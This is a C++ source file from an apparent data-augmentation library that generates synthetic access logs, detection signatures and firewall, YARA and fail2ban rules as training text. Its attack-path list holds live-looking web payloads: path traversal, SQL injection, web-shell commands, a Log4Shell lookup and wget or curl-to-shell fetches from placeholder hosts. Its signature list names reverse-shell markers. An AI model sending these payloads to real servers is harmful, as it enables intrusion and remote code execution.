#include "fovea/augment/snippets/hard_negative_lists.h"

#include <algorithm>
#include <cmath>
#include <iterator>

#include "fovea/augment/snippets/code_template.h"
#include "fovea/core/error.h"

namespace fovea::augment {
namespace {

std::string Repeated(const std::string& line, const std::string& gap, Junk& j) {
  const auto count = static_cast<int64_t>(std::exp(j.random().Uniform() * std::log(400.0))) + 1;
  std::string text;
  for (int64_t i = 0; i < count; ++i) text += (i > 0 ? gap : "") + line;
  return text;
}

std::string Fill(const std::string& pattern, Junk& j) {
  static const Makers none;
  return CodeTemplate(j, none).Fill(pattern);
}

// What is asked of a server by those who try.
std::string Attack(Junk& j) {
  return Fill(
      j.Pick({"/wp-login.php",
              "/xmlrpc.php",
              "/wp-content/plugins/~word~/readme.txt",
              "/index.php?page=../../../../etc/passwd",
              "/?id=1%27%20UNION%20SELECT%201,2,user()--%20-",
              "/~word~.php?cmd=id",
              "/shell.php?cmd=cat%20/etc/passwd",
              "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
              "/?q=<script>alert(~num~)</script>",
              "/~word~/eval-stdin.php",
              "/?a=eval(base64_decode(%27~b64s~%27))",
              "/?x=${jndi:ldap://~host~/~letters~}",
              "/cgi-bin/;wget${IFS}http://~host~/x",
              "/index.php?f=system&c=curl+~url~|sh",
              "/.env",
              "/.git/config",
              "/?c=<?php+eval($_POST[1]);?>",
              "/phpmyadmin/index.php?lang=en",
              "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
              "/~word~.asp?x=execute(request(%22~letters~%22))",
              "/boaform/admin/formLogin?username=~word~&psd=~word~",
              "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array"}),
      j);
}

constexpr const char* kSignatures[] = {
    "eval\\(base64_decode\\(",
    "eval\\s*\\(\\s*gzinflate",
    "(passthru|shell_exec|system|popen)\\s*\\(\\s*\\$_(GET|POST)",
    "assert\\(\\$_REQUEST",
    "preg_replace\\(.*/e",
    "move_uploaded_file\\(\\$_FILES",
    "FilesMan",
    "c99shell",
    "r57shell",
    "document.write(unescape(",
    "String.fromCharCode(",
    "<iframe src=.* width=1 height=1",
    "WScript.Shell",
    "ADODB.Stream",
    "powershell -enc",
    "exec(base64.b64decode(",
    "__import__(.os.).system",
    "/dev/tcp/",
    "\\\\x65\\\\x76\\\\x61\\\\x6c",
    "create_function\\(",
    "@include \\\\x2f",
    "edoced_46esab",
    "tnega_resu",
    "getCcNumber",
    "UNION SELECT",
    "bash -i >&"};

std::string Signature(Junk& j) { return kSignatures[j.random().Below(std::size(kSignatures))]; }

std::string Html(Junk& j) {
  return Fill(
      j.Pick({"<p>~sentence~</p>", "<p>~sentence~ ~sentence~</p>\\r\\n<p>~sentence~</p>",
              "<a href=\\\"https://~host~/~word~\\\">~word~</a>",
              "<!-- wp:paragraph --><p>~sentence~</p><!-- /wp:paragraph -->",
              "<img src=\\\"/uploads/~word~.jpg\\\" alt=\\\"~word~\\\" width=\\\"~num~\\\" />",
              "<ul><li>~word~</li><li>~word~</li></ul>", "a:2:{s:5:\\\"~word~\\\";i:~small~;}",
              "<iframe src=\\\"https://~host~/embed/~letters~\\\" width=\\\"560\\\"></iframe>",
              "<script async src=\\\"https://~host~/gtag/js?id=G-~digits~\\\"></script>",
              "<pre><code>&lt;?php echo $~word~; ?&gt;</code></pre>", "~sentence~", "~word~",
              "<div class=\\\"~word~\\\"><h2>~sentence~</h2></div>", "~b64s~",
              "{\\\"~word~\\\":1}"}),
      j);
}

}  // namespace

std::string AccessLog(Junk& j) {
  std::string text;
  for (int64_t i = j.Int(3, 60); i > 0; --i) {
    const std::string path = j.Chance(0.4) ? Attack(j) : "/" + j.Word() + "/" + j.Word();
    text += Fill("~ip~ - - [", j) + StrCat(j.Int(10, 28)) + "/Mar/2024:1" + j.Digits(1) + ":2" +
            j.Digits(1) + ":3" + j.Digits(1) + " +0000] \"" + j.Pick({"GET ", "GET ", "POST "}) +
            path + " HTTP/1.1\" " + j.Pick({"200", "404", "404", "403", "500", "301"}) + " " +
            j.Digits(4) + " \"" + j.Pick({"-", "-", "https://www.example.org/"}) + "\" \"" +
            j.Pick({"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/7.68.0", "python-requests/2",
                    "Mozilla/5.0 zgrab/0.x", "() { :; }; /bin/bash -c id", "sqlmap/1.4"}) +
            "\"\n";
  }
  return text;
}

std::string SignatureItems(Junk& j) {
  std::string text;
  const bool pattern = j.Chance(0.5);
  for (int64_t i = j.Int(3, 25); i > 0; --i) {
    std::string item = Signature(j);
    std::replace(item.begin(), item.end(), '/', '.');
    text += pattern ? "'/" + item + "/i'" : "'" + item + "'";
    if (i > 1) text += j.Chance(0.5) ? ",\n    " : ", ";
  }
  return text;
}

std::string SignatureRules(Junk& j) {
  std::string text;
  const int64_t kind = j.Int(0, 3);
  for (int64_t i = j.Int(2, 15); i > 0; --i) {
    const std::string item = Signature(j), name = j.Word() + "_" + j.Letters(4);
    if (kind == 0)
      text += "rule " + name + "\n{\n    meta:\n        description = \"" + j.Sentence(5) +
              "\"\n    strings:\n        $a = \"" + item + "\" nocase\n        $b = /" +
              Signature(j) + "/\n    condition:\n        any of them\n}\n\n";
    if (kind == 1)
      text += "SecRule ARGS \"@rx " + item + "\" \"id:" + j.Digits(6) +
              ",phase:2,deny,status:403,msg:'" + j.Sentence(4) + "'\"\n";
    if (kind == 2)
      text += "{\"id\": \"" + name + "\", \"severity\": \"high\", \"regex\": \"" + item + "\"},\n";
    if (kind == 3) text += "failregex = ^<HOST> .*\"(GET|POST) .*" + item + ".*\"$\n";
  }
  return text;
}

std::string NotebookPicture(Junk& j) {
  std::string picture = j.Pick({"iVBORw0KGgoAAAANSUhEUgAA", "/9j/4AAQSkZJRgABAQEA", "R0lGODlh"}) +
                        j.Base64(3 * j.Int(100, 3000));
  if (j.Chance(0.3))
    for (size_t i = 76; i < picture.size(); i += 78) picture.insert(i, "\\n");
  return "  {\n   \"cell_type\": \"code\",\n   \"execution_count\": " + j.Digits(1) +
         ",\n   \"metadata\": {},\n   \"outputs\": [\n    {\n     \"data\": {\n      \"" +
         j.Pick({"image/png", "image/jpeg", "image/gif"}) + "\": \"" + picture +
         "\",\n      \"text/plain\": [\n       \"<Figure size 640x480 with 1 Axes>\"\n      ]\n    "
         " },"
         "\n     \"metadata\": {},\n     \"output_type\": \"display_data\"\n    }\n   ],\n   "
         "\"source\":"
         " [\n    \"plt." +
         j.Word() + "(" + j.Word() + ")\"\n   ]\n  },\n";
}

std::string DumpRows(Junk& j) {
  const std::string table = j.Word() + "_" + j.Word();
  std::string text = "INSERT INTO `" + table + "` VALUES ";
  const std::string gap = j.Pick({",", ",\n"});
  for (int64_t i = j.Int(2, 20), id = j.Int(1, 5000); i > 0; --i, ++id)
    text += "(" + StrCat(id) + ",'" + Html(j) + "','" + Html(j) + "'," +
            j.Pick({"NULL", "0", "''"}) + ")" + (i > 1 ? gap : ";\n");
  return text;
}

std::string UnicodeItems(Junk& j) {
  std::string text;
  const bool numbers = j.Chance(0.4);
  for (int64_t i = j.Int(10, 120); i > 0; --i)
    text += (numbers ? "0x" + j.Hex(2) + j.Pick({",0x", ", 0x"}) + j.Hex(2)
                     : "'\\u" + j.Hex(2) + "','" + j.Letters(1) + "'") +
            (i > 1 ? "," : "");
  return text;
}

std::string Ascii85(Junk& j) {
  static constexpr char kDigits[] =
      "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}";
  std::string text;
  for (int64_t lines = j.Int(5, 80); lines > 0; --lines) {
    for (int i = 0; i < 76; ++i) text += kDigits[j.random().Below(std::size(kDigits) - 1)];
    text += '\n';
  }
  return text;
}

std::string PhpRepeats(Junk& j) {
  const std::string line = Fill(
      j.Pick({"echo 1;", "echo ~small~;", "echo '~word~';", "print '~word~';", "$~0~ = ~small~;",
              "echo $~0~;", "echo \"~word~\\n\";", "$~0~++;", "~0~();", "?><br><?php",
              "include '"
              "~word~.php';",
              "define('~word~', ~small~);", "return;", "echo date('Y');"}),
      j);
  if (!line.ends_with("php") && j.Chance(0.5)) return Repeated(line, " ?>\n<?php ", j);
  return Repeated(line, j.Pick({"\n", " ", "\n"}), j);
}

std::string JoinedStrings(Junk& j) {
  std::string text;
  const bool words = j.Chance(0.5);
  for (int64_t i = j.Int(2, 14); i > 0; --i) {
    std::string line = j.Pick({"$~0~", "$~1~", "$~2~", "$~3~[]", "$this->~4~", "echo", "return"});
    line += line[0] == '$' ? j.Pick({" = ", " = ", " .= ", "="}) : " ";
    for (int64_t part = j.Int(2, 9); part > 0; --part) {
      const std::string word = words ? j.Word() : j.Letters(j.Int(1, 5));
      line += j.Chance(0.75)  ? (j.Chance(0.8) ? "'" + word + "'" : "\"" + word + "\"")
              : j.Chance(0.5) ? StrCat(j.Int(0, 99))
                              : "$~1~";
      if (part > 1) line += j.Pick({" . ", " . ", " . ", ".", " + ", "\n    . ", " .PHP_EOL. "});
    }
    text += line + ";\n" + (j.Chance(0.2) ? "\n" : "") + (j.Chance(0.1) ? "// ~sentence~\n" : "");
  }
  return Fill(text, j);
}

std::string ScriptRepeats(Junk& j) {
  return Repeated(Fill(j.Pick({"var ~0~ = ~small~;", "console.log(~small~);", "f();", "~0~++;",
                               "document.write('~word~');", "alert('~word~');", "'use strict';",
                               "~0~.~word~();", "expect(~0~).toBe(~small~);"}),
                       j),
                  j.Pick({"\n", "", "\n"}), j);
}

std::string PythonRepeats(Junk& j) {
  return Repeated(Fill(j.Pick({"print(~small~)", "import os", "~0~ = ~small~", "pass", "~0~()",
                               "assert ~0~", "print('~word~')", "~0~.append(~small~)",
                               "import ~word~", "exec('~0~ = ~small~')"}),
                       j),
                  "\n", j);
}

}  // namespace fovea::augment
